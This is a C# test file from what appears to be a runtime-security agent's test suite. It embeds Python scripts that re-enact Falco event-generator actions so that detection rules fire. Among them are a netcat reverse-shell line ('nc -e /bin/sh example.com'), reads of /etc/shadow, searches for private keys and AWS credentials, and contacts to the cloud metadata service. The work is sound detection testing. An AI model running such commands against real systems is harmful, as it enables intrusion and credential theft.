namespace ZeroDrift.Agent.Tests.EventGenerator;

/// <summary>
/// falcosecurity/event-generator's syscall actions (events/syscall/*.go, read at its main branch), each re-enacted
/// by a python3 script of ours, which stands for the generator's process: what the generator does in its own process
/// (an open, a socket, a setuid) the script does in its own (ctypes for raw syscalls); the commands it runs (ln, find,
/// nc, …) the script runs with the same arguments, so that their parent is not a shell, as with the generator. Its <c>SpawnAs(name, …)</c> (a copy of itself under a
/// server's name) and <c>SpawnAsWithSymlink</c> become a symlink to python3 under that name, so that the kernel's
/// task name is the one the rule looks for (a symlink, not a copy, so that the executable stays in the image's
/// layer and "Drop and execute new binary in container" is not fired by our stand-in).
/// </summary>
public static class EventGeneratorActions
{
    /// <summary>Put before every python script: the modules and libc the scripts use.</summary>
    public const string PythonPrelude = """
        import atexit, ctypes, os, shutil, socket, subprocess, sys, tempfile, time
        libc = ctypes.CDLL(None, use_errno=True)
        atexit.register(time.sleep, 1)  # the container stays a second more: its last events are attributed while it exists

        """;

    /// <summary>The symlink a spawned helper runs under (the generator's SpawnAs/SpawnAsWithSymlink): python3 named <c>name</c>.</summary>
    private const string SpawnAs = """
        def spawn_as(name, code, user=None):
            d = tempfile.mkdtemp(prefix="falco-event-generator-")
            path = os.path.join(d, name)
            os.symlink("/usr/bin/python3", path)
            try:
                subprocess.run([path, "-c", code], check=False)
            finally:
                shutil.rmtree(d)

        """;

    /// <summary>The generator's runAsUser: fork, setgroups/setgid/setuid to the user, exec the command.</summary>
    private const string RunAsUser = """
        def run_as_user(uid, gid, argv):
            pid = os.fork()
            if pid == 0:
                try:
                    os.setgroups([]); os.setgid(gid); os.setuid(uid)
                    os.execv(shutil.which(argv[0]) or argv[0], argv)
                finally:
                    os._exit(127)
            os.waitpid(pid, 0)

        """;

    /// <summary>Go's SysProcAttr.Cloneflags = CLONE_NEWNS|CLONE_NEWUSER: the child is cloned into new namespaces (a raw
    /// clone, as Go's fork does; no unshare call), then execs. When the clone fails nothing is executed, as in Go.</summary>
    private const string CloneNewNsUser = """
        def run_in_new_ns(argv):
            pid = libc.syscall(56, 0x00020000 | 0x10000000 | 17, 0, 0, 0, 0)  # clone(CLONE_NEWNS|CLONE_NEWUSER|SIGCHLD)
            if pid == 0:
                try:
                    os.execv(argv[0], argv)
                finally:
                    os._exit(127)
            if pid > 0:
                os.waitpid(pid, 0)

        """;

    /// <summary>
    /// Actions that switch users as the generator's runAsUser or SpawnAs does (a root process not named in Falco's
    /// setuid lists calls setuid to a user the container's /etc/passwd names) fire "Non sudo setuid" in Falco too:
    /// libsinsp evaluates the setuid exit event with the thread's user already changed to the new one (libs'
    /// test <c>sinsp_with_test_input.setuid_setgid</c>: user.uid is 0 at the entry event and 500 at the exit), so
    /// <c>not (user.name=root or user.uid=0)</c> holds.
    /// </summary>
    private static readonly string[] SwitchesUser = ["Non sudo setuid"];

    private static EventGeneratorAction Py(string name, string rule, string code, Place place = Place.Container) =>
        new(name, rule, place) { Script = PythonPrelude + code };

    private static EventGeneratorAction Skipped(string name, string rule, string reason) => new(name, rule) { Skip = reason };

    private const string Disabled = "the rule is `enabled: false` in falco-sandbox_rules.yaml";

    public static IReadOnlyList<EventGeneratorAction> All { get; } =
    [
        // ---------------------------------------------------------------- falco_rules.yaml (stable)
        Py("DirectoryTraversalMonitoredFileRead", "Directory traversal monitored file read", """
            f = open("/etc/../etc/../etc/shadow"); f.close()
            """),
        Py("ReadSensitiveFileTrustedAfterStartup", "Read sensitive file trusted after startup", SpawnAs + """
            # SpawnAsWithSymlink("httpd", ReadSensitiveFileUntrusted, --sleep 6s): the server runs past its first 5 s, then reads.
            spawn_as("httpd", "import time; time.sleep(6); open('/etc/shadow').close()")
            """),
        Py("ReadSensitiveFileUntrusted", "Read sensitive file untrusted", """
            f = open("/etc/shadow"); f.close()
            """),
        Py("RunShellUntrusted", "Run shell untrusted", SpawnAs + """
            # SpawnAs("httpd", helper.RunShell): the web server runs `sh -c "ls > /dev/null"`.
            spawn_as("httpd", "import subprocess; subprocess.run(['sh', '-c', 'ls > /dev/null'])")
            """),
        Py("SystemUserInteractive", "System user interactive", RunAsUser + """
            run_as_user(1, 1, ["/bin/login"])  # daemon
            """) with { AlsoFalco = SwitchesUser },
        Py("NetcatRemoteCodeExecutionInContainer", "Netcat Remote Code Execution in Container", """
            subprocess.run(["timeout", "1s", shutil.which("nc"), "-e", "/bin/sh", "example.com", "22"])
            """),
        Py("SearchPrivateKeysOrPasswords", "Search Private Keys or Passwords", """
            subprocess.run([shutil.which("find"), "/tmp", "-maxdepth", "1", "-iname", "id_rsa"])
            """),
        Py("ClearLogActivities", "Clear Log Activities", """
            d = tempfile.mkdtemp(dir="/", prefix="falco-event-generator-")
            fd = os.open(os.path.join(d, "syslog"), os.O_CREAT | os.O_TRUNC | os.O_WRONLY | os.O_CLOEXEC, 0o644)
            os.close(fd)
            shutil.rmtree(d)
            """),
        Py("RemoveBulkDataFromDisk", "Remove Bulk Data from Disk", """
            d = tempfile.mkdtemp(prefix="created-by-falco-event-generator")
            with open(os.path.join(d, "file.txt"), "w") as f: f.write("bulk data content")
            subprocess.run(["shred", "-u", d])  # as the generator: shred is given the directory (and fails on it)
            shutil.rmtree(d)
            """),
        Py("CreateSymlinkOverSensitiveFiles", "Create Symlink Over Sensitive Files", """
            d = tempfile.mkdtemp(prefix="falco-event-generator-syscall-CreateSymlinkOverSensitiveFiles-")
            link = os.path.join(d, "etc_link")
            subprocess.run(["ln", "-s", "/etc", link], check=True)
            os.listdir(link)
            shutil.rmtree(d)
            """),
        Py("CreateHardlinkOverSensitiveFiles", "Create Hardlink Over Sensitive Files", """
            d = tempfile.mkdtemp(prefix="falco-event-generator-syscall-CreateHardlinkOverSensitiveFiles-")
            link = os.path.join(d, "shadow_link")
            subprocess.run(["ln", "-v", "/etc/shadow", link], check=True)
            open(link, "rb").read()
            shutil.rmtree(d)
            """),
        Py("PacketSocketCreatedInContainer", "Packet socket created in container", """
            s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))  # ETH_P_ALL
            s.close()
            """) with { PodmanOptions = ["--cap-add", "NET_RAW"], Note = "docker's default capabilities hold NET_RAW, podman's do not: added, so that the socket is made as in the generator's usual container" },
        Py("RedirectStdoutStdinFromContainer", "Redirect STDOUT/STDIN to Network Connection in Container", """
            srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            srv.bind(("127.0.0.1", 8080)); srv.listen(1)
            client = socket.create_connection(("127.0.0.1", 8080))
            conn, _ = srv.accept()
            os.dup2(conn.fileno(), 1)  # redirectStdout: the accepted connection becomes stdout
            """),
        Skipped("LinuxKernelModuleInjection", "Linux Kernel Module Injection Detected",
            "this machine's kernel has no loadable modules (no /lib/modules, lsmod lists none): the action's modinfo finds no file, "
            + "insmod runs without one and makes no init_module/finit_module call, so Falco fires nothing; it needs a host with modules "
            + "and a container holding CAP_SYS_MODULE"),
        Py("LaunchDebugfsInPrivilegedContainer", "Debugfs Launched in Privileged Container", CloneNewNsUser + """
            run_in_new_ns(["/usr/sbin/debugfs", "/dev/sda1"])
            """, Place.Privileged) with { AlsoFalco = ["Launch Privileged Container"], Note = "debugfs is /usr/sbin/debugfs on Debian (the Go code names /usr/bin/debugfs, Alpine's path)" },
        Py("DetectReleaseAgentFileContainerEscapes", "Detect release_agent File Container Escapes", """
            cap = subprocess.run(["sh", "-c", "cat /proc/self/status | grep CapEff | awk '{print $2}'"], capture_output=True, text=True).stdout.strip()
            # uid 0: only CAP_SYS_ADMIN is checked
            if "cap_sys_admin" in subprocess.run([shutil.which("capsh"), "--decode=" + cap], capture_output=True, text=True).stdout:
                subprocess.run(["sh", "-c", "echo 'hello world' > release_agent"])
            """, Place.Privileged) with { AlsoFalco = ["Launch Privileged Container"] },
        Py("PtraceAttachedToProcess", "PTRACE attached to process", """
            p = subprocess.Popen(["sleep", "3600"])
            libc.ptrace(16, p.pid, None, None)  # PTRACE_ATTACH
            p.kill(); libc.ptrace(17, p.pid, None, None); p.wait()  # PTRACE_DETACH
            """),
        Py("PtraceAntiDebugAttempt", "PTRACE anti-debug attempt", """
            pid = os.fork()
            if pid == 0:
                libc.ptrace(0, 0, None, None)  # PTRACE_TRACEME, then exec as Go's SysProcAttr.Ptrace
                os.execv("/usr/bin/sleep", ["sleep", "3600"])
            time.sleep(0.2); os.kill(pid, 9); os.waitpid(pid, 0)
            """),
        Py("FindAwsCredentials", "Find AWS Credentials", """
            subprocess.run([shutil.which("find"), "/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"])
            """),
        Py("ExecutionFromDevShm", "Execution from /dev/shm", """
            path = "/dev/shm/example_script-created-by-falco-event-generator.sh"
            with open(path, "w") as f: f.write("#!/bin/bash\n echo 'hello world'")
            os.chmod(path, 0o755)
            subprocess.run(["chmod", "+x", path])
            subprocess.run([path])
            os.remove(path)
            """) with
            {
                PodmanOptions = ["--tmpfs", "/dev/shm:rw,exec,nosuid,nodev,mode=1777"],
                FalcoFires = null,
                Note = "podman mounts /dev/shm noexec (the exec fails): this container has an exec /dev/shm, as the hosts the rule guards do. "
                    + "Falco fires nothing even then: the script runs as `/bin/bash /dev/shm/example_script-….sh`, so proc.exe (argv[0]) is /bin/bash, "
                    + "and the kernel names the task after the script (comm `example_script-`), so proc.name is not a shell and the "
                    + "`shell_procs and proc.args startswith \"/dev/shm\"` branch fails too (an ELF run from /dev/shm would match proc.exe)",
            },
        // Not an action of the generator: the same rule's proc.exe branch, which the action above cannot reach.
        Py("ExecutionFromDevShmElfVariant", "Execution from /dev/shm", """
            path = "/dev/shm/falco-event-generator-variant-true"
            shutil.copy(shutil.which("true"), path)
            os.chmod(path, 0o755)
            subprocess.run([path])
            os.remove(path)
            """) with { PodmanOptions = ["--tmpfs", "/dev/shm:rw,exec,nosuid,nodev,mode=1777"], Note = "ours, not the generator's: an ELF copied into /dev/shm and run, the rule's `proc.exe startswith \"/dev/shm/\"` branch" },
        Py("DropAndExecuteNewBinaryInContainer", "Drop and execute new binary in container", """
            content = open(shutil.which("ls"), "rb").read()
            path = "/bin/falco-event-generator-syscall-DropAndExecuteNewBinaryInContainer-x7Kq2Z"
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC, 0o755)
            os.write(fd, content); os.close(fd)
            subprocess.run([path])
            os.remove(path)
            """) with { AlsoFalco = ["Write below binary dir", "Modify binary dirs"] },
        Py("DisallowedSSHConnectionNonStandardPort", "Disallowed SSH Connection Non Standard Port", """
            try: subprocess.run(["/usr/bin/ssh", "-o", "ConnectTimeout=2", "-p", "2222", "203.0.113.1"], stdin=subprocess.DEVNULL, timeout=10)
            except subprocess.TimeoutExpired: pass
            """) with
            {
                FalcoFires = null,
                Note = "Falco fires nothing: the Go code connects to port 2222, which is not in the rule's ssh_non_standard_ports "
                    + "(80, 8080, 88, 443, 8443, 53, 4444; the macro tests fd.sport). example.com does not resolve here, and a blocking "
                    + "connect to an unreachable address never returns: 203.0.113.1 (TEST-NET-3: not loopback, not RFC 1918, which "
                    + "`outbound` excludes) with ConnectTimeout, whose non-blocking connect returns EINPROGRESS. "
                    + "DisallowedSSHConnectionPort443Variant below is the same connection on a port of that list",
            },
        // Not an action of the generator: the action above on a port of the rule's list.
        Py("DisallowedSSHConnectionPort443Variant", "Disallowed SSH Connection Non Standard Port", """
            try: subprocess.run(["/usr/bin/ssh", "-o", "ConnectTimeout=2", "-p", "443", "203.0.113.1"], stdin=subprocess.DEVNULL, timeout=10)
            except subprocess.TimeoutExpired: pass
            """) with { Note = "ours, not the generator's: the generator's connection on port 443, one of ssh_non_standard_ports" },
        Py("FilelessExecutionViaMemfdCreate", "Fileless execution via memfd_create", """
            data = open(sys.executable, "rb").read()
            fd = os.memfd_create("program", 0)
            os.write(fd, data)
            subprocess.run(["/proc/self/fd/%d" % fd, "-c", "pass"], pass_fds=(fd,))
            os.close(fd)
            """) with { Note = "the generator runs its own binary from the memfd; this runs python3's" },

        // ---------------------------------------------------------------- falco-incubating_rules.yaml
        Py("ModifyShellConfigurationFile", "Modify Shell Configuration File", """
            d = tempfile.mkdtemp(prefix="falco-event-generator-syscall-ModifyShellConfigurationFile-")
            with open(os.path.join(d, ".bashrc"), "w") as f: f.write("# written by falco-event-generator\n")
            shutil.rmtree(d)
            """),
        Py("ScheduleCronJobs", "Schedule Cron Jobs", """
            subprocess.run([shutil.which("crontab"), "-l"])
            """),
        Py("ReadSshInformation", "Read ssh information", """
            f = open("/root/.ssh/known_hosts"); f.close()
            """) with { Note = "the image has a /root/.ssh/known_hosts, as the machines this rule guards do: a failed open fires nothing in Falco" },
        Py("DbProgramSpawnedProcess", "DB program spawned process", SpawnAs + """
            spawn_as("mysqld", "import subprocess; subprocess.run(['/bin/ls'])")
            """),
        Py("ChangeThreadNamespace", "Change thread namespace", """
            libc.setns(0, 0)
            """, Place.Unconfined) with { Note = "run without seccomp, as the action's own comment says it must be (podman's default profile refuses setns)" },
        Py("ChangeNamespacePrivilegesViaUnshare", "Change namespace privileges via unshare", """
            subprocess.run(["unshare"], stdin=subprocess.DEVNULL)
            """),
        Py("SystemProcsNetworkActivity", "System procs network activity", SpawnAs + """
            spawn_as("sha1sum", "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('10.2.3.4', 8192)); s.close()")
            """),
        Py("ProgramRunWithDisallowedHttpProxyEnv", "Program run with disallowed http proxy env", """
            os.environ["HTTP_PROXY"] = "http://my.http.proxy.com "
            try: subprocess.run(["curl", "http://example.com"], timeout=10)
            except subprocess.TimeoutExpired: pass
            """),
        Py("GenerateUnexpectedUDPTraffic", "Unexpected UDP Traffic", """
            subprocess.run(["echo", "UDP traffic", "|", "nc", "-u", "127.0.0.1", "40404"])
            """) with { FalcoFires = null, Note = "the Go code runs echo with \"|\" as an argument: no socket is opened, so Falco fires nothing (and UDP to 127.0.0.1, what it means, is excluded by `inbound_outbound`)" },
        Py("NonSudoSetuid", "Non sudo setuid", SpawnAs + """
            # SpawnAsWithSymlink("child", …): become daemon, then try to become root again (refused).
            spawn_as("child", "import ctypes; libc = ctypes.CDLL(None); libc.syscall(105, 1); libc.syscall(105, 0)")
            """),
        Py("UserMgmtBinaries", "User mgmt binaries", """
            # On the host (the action skips containers): SpawnAsWithSymlink("vipw", helper.ExecLs).
            d = tempfile.mkdtemp(prefix="falco-event-generator-{MARKER}-")
            os.symlink("/usr/bin/python3", os.path.join(d, "vipw"))
            subprocess.run([os.path.join(d, "vipw"), "-c", "import subprocess; subprocess.run(['/bin/ls'], stdout=subprocess.DEVNULL)  # {MARKER}"])
            shutil.rmtree(d)
            """, Place.Host),
        Py("CreateFilesBelowDev", "Create files below dev", """
            fd, path = tempfile.mkstemp(dir="/dev", prefix="falco-event-generator-syscall-CreateFilesBelowDev-")
            os.close(fd); os.remove(path)
            """),
        Py("ContactEC2InstanceMetadataServiceFromContainer", "Contact EC2 Instance Metadata Service From Container", """
            subprocess.run(["timeout", "1s", shutil.which("nc"), "169.254.169.254", "80"])
            """) with { AlsoFalco = ["Launch Suspicious Network Tool in Container"] },
        Py("ContactCloudMetadataServiceFromContainer", "Contact cloud metadata service from container", """
            s = socket.socket(); s.settimeout(2)  # non-blocking connect, as Go's net.Dial
            try: s.connect(("169.254.169.254", 80))
            except OSError: pass
            s.close()
            """) with { FalcoFires = "Contact EC2 Instance Metadata Service From Container",
                Note = "both metadata rules have the same condition but for a never_true exclusion; Falco fires the first in file order, the EC2 one" },
        Py("LaunchPackageManagementProcessInContainer", "Launch Package Management Process in Container", """
            subprocess.run(["apt-get"], stdout=subprocess.DEVNULL)
            """),
        Py("LaunchSuspiciousNetworkToolInContainer", "Launch Suspicious Network Tool in Container", """
            subprocess.run(["nmap", "-sn", "127.0.0.1/32"], stdout=subprocess.DEVNULL, timeout=20)
            """) with { Note = "scans 127.0.0.1/32, not 192.168.1.0/24: the rule needs the exec, and this machine's network is shared" },
        Py("LaunchSuspiciousNetworkToolOnHost", "Launch Suspicious Network Tool on Host", """
            out = "/tmp/{MARKER}-nmap.txt"
            subprocess.run([shutil.which("nmap"), "-sn", "127.0.0.1/32", "-oN", out], stdout=subprocess.DEVNULL, timeout=20)
            os.remove(out)
            """, Place.Host) with { Note = "scans 127.0.0.1/32; -oN names a file with the run's marker, so that the alert is known as ours among the host's" },
        Py("DeleteOrRenameShellHistory", "Delete or rename shell history", """
            d = tempfile.mkdtemp(prefix="falco-event-generator-syscall-DeleteOrRenameShellHistory-")
            history = os.path.join(d, "ash_history")
            fd = os.open(history, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_CLOEXEC, 0o600); os.close(fd)
            os.remove(history)
            shutil.rmtree(d)
            """),
        Py("SetSetuidOrSetgidBit", "Set Setuid or Setgid bit", """
            fd, path = tempfile.mkstemp(prefix="falco-event-generator-syscall-SetSetuidOrSetgidBit-"); os.close(fd)
            subprocess.run(["chmod", "u+s", path], check=True)
            os.remove(path)
            """),
        Py("LaunchRemoteFileCopyToolsInContainer", "Launch Remote File Copy Tools in Container", """
            subprocess.run(["scp"])
            """),
        Py("MountLaunchedInPrivilegedContainer", "Mount Launched in Privileged Container", CloneNewNsUser + """
            run_in_new_ns(["/usr/bin/mount", "-o"])
            """, Place.Privileged) with { AlsoFalco = ["Launch Privileged Container"] },
        Py("LaunchIngressRemoteFileCopyToolsInContainer", "Launch Ingress Remote File Copy Tools in Container", """
            subprocess.run(["wget", "-V"], stdout=subprocess.DEVNULL)
            """),
        Py("ReadEnvironmentVariableFromProcFiles", "Read environment variable from /proc files", """
            subprocess.run(["cat", "/proc/self/environ"], capture_output=True)
            """),
        Skipped("ExfiltratingArtifactsViaKubernetesControlPlane", "Exfiltrating Artifacts via Kubernetes Control Plane",
            "needs a kind cluster and kubectl against it (kubectl cp from a pod); this machine has no Kubernetes"),
        Py("AddingSshKeysToAuthorizedKeys", "Adding ssh keys to authorized_keys", """
            d = "/home/created-by-falco-event-generator/.ssh"
            os.makedirs(d, 0o755, exist_ok=True)
            with open(d + "/authorized_keys", "w") as f: f.write("ssh-rsa <ssh_public_key>\n")
            os.chmod(d + "/authorized_keys", 0o755)
            shutil.rmtree("/home/created-by-falco-event-generator")
            """),
        Py("PotentialLocalPrivilegeEscalationViaEnvironmentVariablesMisuse", "Potential Local Privilege Escalation via Environment Variables Misuse", """
            env = dict(os.environ, GLIBC_TUNABLES="glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2")
            subprocess.run(["sh", "-c", "id"], env=env)
            """),

        // ---------------------------------------------------------------- falco-sandbox_rules.yaml
        Py("UpdatePackageRepository", "Update Package Repository", """
            path = "/etc/apt/sources.list"
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_CLOEXEC, 0o755)
            os.remove(path); os.close(fd)
            """),
        Py("WriteBelowBinaryDir", "Write below binary dir", """
            path = "/bin/created-by-event-generator"
            with open(path, "wb"): pass
            os.remove(path)
            """) with { AlsoFalco = ["Modify binary dirs"] },
        Py("WriteBelowEtc", "Write below etc", """
            fd, path = tempfile.mkstemp(dir="/etc", prefix="falco-event-generator-syscall-WriteBelowEtc-")
            os.close(fd); os.remove(path)
            """),
        Py("WriteBelowRoot", "Write below root", """
            fd, path = tempfile.mkstemp(dir="/root", prefix="falco-event-generator-syscall-WriteBelowRoot-")
            os.close(fd); os.remove(path)
            """),
        Py("WriteBelowRpmDatabase", "Write below rpm database", """
            path = "/var/lib/rpm/created-by-event-generator"
            with open(path, "wb"): pass
            os.remove(path)
            """) with { Note = "the image has an empty /var/lib/rpm, as an rpm-based image would: without it the open fails and Falco fires nothing" },
        Py("ModifyBinaryDirs", "Modify binary dirs", """
            os.rename("/bin/true", "/bin/true.event-generator")
            os.rename("/bin/true.event-generator", "/bin/true")
            """),
        Py("MkdirBinaryDirs", "Mkdir binary dirs", """
            os.mkdir("/bin/directory-created-by-event-generator", 0o755)
            os.rmdir("/bin/directory-created-by-event-generator")
            """) with { AlsoFalco = ["Modify binary dirs"] },
        Py("DetectCryptoMinersUsingTheStratumProtocol", "Detect crypto miners using the Stratum protocol", """
            subprocess.run(["ls", "-o stratum+tcp", "-u user", "-p pass"])
            """),
        Py("KubernetesClientToolLaunchedInContainer", "Kubernetes Client Tool Launched in Container", """
            d = tempfile.mkdtemp(prefix="falco-event-generator-syscall-KubernetesClientToolLaunchedInContainer-")
            kubectl = os.path.join(d, "kubectl")
            with open(kubectl, "w") as f: f.write("#!/bin/sh\n\necho 'hello world'\n")
            os.chmod(kubectl, 0o755)
            subprocess.run([kubectl])
            shutil.rmtree(d)
            """),
        Py("SudoPotentialPrivilegeEscalation", "Sudo Potential Privilege Escalation", RunAsUser + """
            run_as_user(1, 1, ["sudoedit", "-u", "daemon", "-s", "ls\\"])
            """) with { AlsoFalco = SwitchesUser },
        Py("UnprivilegedDelegationofPageFaultsHandlingtoaUserspaceProcess", "Unprivileged Delegation of Page Faults Handling to a Userspace Process", SpawnAs + """
            spawn_as("child", "import ctypes; libc = ctypes.CDLL(None); libc.syscall(105, 1); libc.syscall(323, 0)")  # setuid(daemon), userfaultfd(0)
            """) with { AlsoFalco = SwitchesUser },
        Py("PolkitLocalPrivilegeEscalationVulnerabilityCVE20214034", "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", RunAsUser + """
            run_as_user(1, 1, ["pkexec"])
            """) with { AlsoFalco = SwitchesUser },
        Py("DecodingPayloadInContainer", "Decoding Payload in Container", """
            subprocess.run(["base64", "-d"], input=b"aGVsbG8K", stdout=subprocess.DEVNULL)
            """) with { Note = "the Go code builds `base64 -d` and never runs it (a bug); this runs it, as the action means to" },

        // Actions whose rule Falco's three files hold disabled, or do not hold at all.
        Skipped("ContainerDriftDetcted", "Container Drift Detected (chmod)", Disabled),
        Skipped("ContainerDriftDetectedOpenCreate", "Container Drift Detected (open+create)", Disabled),
        Skipped("CreateHiddenFilesOrDirectories", "Create Hidden Files or Directories", Disabled),
        Skipped("DetectOutboundConnectionsToCommonMinerPoolPorts", "Detect outbound connections to common miner pool ports", Disabled),
        Skipped("InterpretedProcsInboundNetworkActivity", "Interpreted procs inbound network activity", Disabled),
        Skipped("InterpretedProcsOutboundNetworkActivity", "Interpreted procs outbound network activity", Disabled),
        Skipped("JavaProcessClassFileDownload", "Java Process Class File Download", Disabled),
        Skipped("ModifyContainerEntrypoint", "Modify Container Entrypoint", Disabled),
        Skipped("ReadShellConfigurationFile", "Read Shell Configuration File", Disabled),
        Skipped("UnexpectedK8sNodePortConnection", "Unexpected K8s NodePort Connection", Disabled),
        Skipped("DisallowedSSHConnection", "Disallowed SSH Connection",
            "no rule of that name in the three files (only \"Disallowed SSH Connection Non Standard Port\", its own action); the action is disabled in the generator too"),
        Skipped("DownloadSensitiveFile", "Download Sensitive File",
            "no rule of that name in the three files (copying_sensitive_file.go, disabled in the generator: \"this rule is not default_rules\")"),
        Skipped("LaunchNetworkToolInContainer", "Launch Network Tool In Container",
            "no rule of that name in the three files, and it pulls alpine with docker (launch_network_tool.go); \"Launch Suspicious Network Tool in Container\" has its own action"),
    ];
}
